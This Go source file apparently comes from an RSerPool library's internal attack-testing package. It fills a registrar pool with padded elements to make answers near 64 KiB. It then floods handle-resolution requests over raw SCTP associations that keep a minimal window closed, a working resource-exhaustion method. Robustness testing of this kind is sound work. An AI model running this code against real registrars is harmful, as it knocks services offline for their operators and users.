package attack

import (
	"context"
	"fmt"
	"net/netip"
	"time"

	"github.com/rserpool-go/rserpool/internal/attack/rawsctp"
	"github.com/rserpool-go/rserpool/wire"
	"github.com/rserpool-go/rserpool/wire/asapmsg"
)

const (
	closedWindow = 1500 // octets, the least that an INIT may announce (RFC 9260, 3.3.2)
	largePool    = wire.PoolHandle("Large")
	questionWait = 8 * time.Millisecond
)

// closeWindow asks for a large pool over associations that announce a small window and read nothing. With acknowledge,
// each association acknowledges data and keeps the window closed, so that the peer hears progress of a kind.
func closeWindow(acknowledge bool) method {
	return func(ctx context.Context, w *work) error {
		owner, err := w.fillLargePool(ctx)
		if err != nil {
			return err
		}
		defer owner.close()
		question, err := (&asapmsg.HandleResolution{PoolHandle: largePool, Items: asapmsg.AllItems}).AppendBinary(nil)
		if err != nil {
			return err
		}
		habit := rawsctp.Habit{Acknowledge: acknowledge}
		return w.eachRaw(ctx, closedWindow, habit, func(ctx context.Context, a *rawsctp.Association) error {
			return w.sendMessages(ctx, a, wire.PPIDASAP, question, questionWait)
		})
	}
}

// sendMessages sends a message of a single chunk again and again, with pauses.
func (w *work) sendMessages(ctx context.Context, a *rawsctp.Association, ppid uint32, user []byte, wait time.Duration) error {
	for i := range w.Count {
		d := rawsctp.Data{TSN: a.TSN + uint32(i), StreamSequence: uint16(i), PPID: ppid, User: user}
		if err := a.Send(d.Chunk(rawsctp.Whole)); err != nil {
			return err
		}
		w.count(1)
		if !Pause(ctx, wait) {
			return nil
		}
	}
	return nil
}

// fillLargePool registers elements of Size octets, so that an answer with the whole pool has nearly 64 KiB, or as many of
// them as the registrar takes. The elements are in the pool until the caller closes the speaker.
func (w *work) fillLargePool(ctx context.Context) (*speaker, error) {
	s, err := w.speakASAP(ctx, 0)
	if err != nil {
		return nil, err
	}
	answers := make(chan *asapmsg.RegistrationResponse, largePoolElements)
	s.hearASAP(func(m asapmsg.Message) {
		switch m := m.(type) {
		case *asapmsg.RegistrationResponse:
			answers <- m
		case *asapmsg.EndpointKeepAlive:
			_ = s.tell(ctx, &asapmsg.EndpointKeepAliveAck{PoolHandle: m.PoolHandle, PEID: m.PEID})
		}
	})
	taken := 0
	for i := range largePoolElements {
		e := newElement(wire.PEID(i+1), s.addr().Addr())
		e.Unknown = []wire.RawParam{{Type: skippedParam, Value: make([]byte, w.Size)}}
		if err := s.tell(ctx, &asapmsg.Registration{PoolHandle: largePool, PoolElement: e}); err != nil {
			s.close()
			return nil, err
		}
		select {
		case r := <-answers:
			if !r.Reject {
				taken++
			}
		case <-ctx.Done():
			s.close()
			return nil, fmt.Errorf("pool %s: no answer to a registration", largePool)
		}
	}
	if w.note("elements in the large pool", int64(taken)); taken == 0 {
		s.close()
		return nil, fmt.Errorf("pool %s: every registration is refused", largePool)
	}
	return s, nil
}

const (
	largePoolElements = 15
	// skippedParam is a parameter type that nobody knows, and that receivers skip without a report (RFC 5354, 3).
	skippedParam = wire.ParamType(0xbff0)
)

// newElement returns an element for a registration.
func newElement(id wire.PEID, addr netip.Addr) wire.PoolElement {
	return wire.PoolElement{
		ID:               id,
		RegistrationLife: registrationLife,
		UserTransport:    wire.Transport{Protocol: wire.SCTP, Port: 7, Addrs: []netip.Addr{addr}},
		Policy:           wire.Policy{Type: wire.RoundRobin},
	}
}

const registrationLife = 5 * time.Minute
